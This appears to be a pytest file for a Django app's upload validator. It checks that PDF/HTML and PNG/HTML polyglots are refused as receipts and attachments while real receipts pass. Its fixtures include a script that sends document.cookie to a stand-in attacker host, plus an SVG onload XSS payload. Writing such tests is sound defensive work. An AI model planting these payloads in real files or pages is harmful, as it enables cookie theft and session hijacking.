"""Issue 23: every stored upload goes through the one check (``puente.core.uploads``): PDF/HTML
and PNG/HTML polyglots are refused as expense receipts exactly as they are as case attachments
and abuse evidence, while real receipts pass."""

import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from puente.billing.actions import sniff_receipt
from puente.cases.uploads import check_upload as check_attachment
from puente.core.action_contract import ActionRefused
from puente.core.uploads import check_upload


def _png(extra=b""):
    def chunk(kind, data):
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = chunk(b"IHDR", (1).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00")
    body = chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + header + body + chunk(b"IEND", b"") + extra


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n" + b"0" * 2000 + b"\ntrailer<<>>\n%%EOF\n"
PAGE = b'<html><body><script>fetch("https://evil.example/?"+document.cookie)</script></body></html>'
POLYGLOTS = {
    # The page after 2 KB of PDF: beyond the first kilobyte the check used to read.
    "pdf-html.pdf": PDF.replace(b"%%EOF\n", b"%%EOF\n" + PAGE),
    "png-html.png": _png(b"\x00" * 4096 + PAGE),
    "comment.pdf": PDF.replace(b"trailer", b"% <SVG onload=alert(1)>\ntrailer"),
}


@pytest.mark.parametrize("name", sorted(POLYGLOTS))
def test_polyglots_are_refused_everywhere(name):
    data = POLYGLOTS[name]
    with pytest.raises(ActionRefused) as refused:
        sniff_receipt(SimpleUploadedFile(name, data))
    assert name in refused.value.text and "web page" in refused.value.text
    with pytest.raises(ValidationError):
        check_attachment(SimpleUploadedFile(name, data))
    with pytest.raises(ValidationError):
        check_upload(SimpleUploadedFile(name, data))


@pytest.mark.parametrize("name,data,mime", [
    ("recibo.pdf", PDF, "application/pdf"),
    ("recibo.png", _png(), "image/png"),
    ("recibo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 200, "image/jpeg"),
])
def test_real_receipts_pass(name, data, mime):
    assert sniff_receipt(SimpleUploadedFile(name, data))[0] == mime


def test_receipts_are_limited_in_size_like_every_upload(settings):
    settings.PUENTE_UPLOAD_MAX_BYTES = 1000
    with pytest.raises(ActionRefused) as refused:
        sniff_receipt(SimpleUploadedFile("grande.pdf", PDF))
    assert "grande.pdf" in refused.value.text
